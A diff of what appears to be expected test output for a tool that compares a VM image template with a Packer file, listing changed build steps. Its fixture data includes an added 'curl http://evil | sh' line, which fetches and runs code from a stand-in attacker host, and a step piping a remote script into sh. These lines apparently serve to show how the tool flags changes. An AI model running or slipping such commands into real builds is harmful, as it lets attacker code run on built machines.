@@ -23,16 +23,16 @@ vmProfile
 
 customize
   ~ [1] install inline    1 line added
-      template.json:18  image.pkr.hcl:30  the project was edited
+      template.json:18  image.pkr.hcl:31  the project was edited
       | echo "home is ${HOME}"
       + curl http://evil | sh
   + shell provisioner[3]  before [2] containers
-      image.pkr.hcl:34  the project was edited
+      image.pkr.hcl:35  the project was edited
       + id
   - [2] containers        curl -fsSL https://example.com/docker.sh | sh
       template.json:20  the template changed
   ↕ [3] harden            was 4th, is 1st
-      template.json:21  image.pkr.hcl:17  the project was edited
+      template.json:21  image.pkr.hcl:20  the project was edited
 
 distribute
   ~ [0] replicationRegions  eastus2 is not there
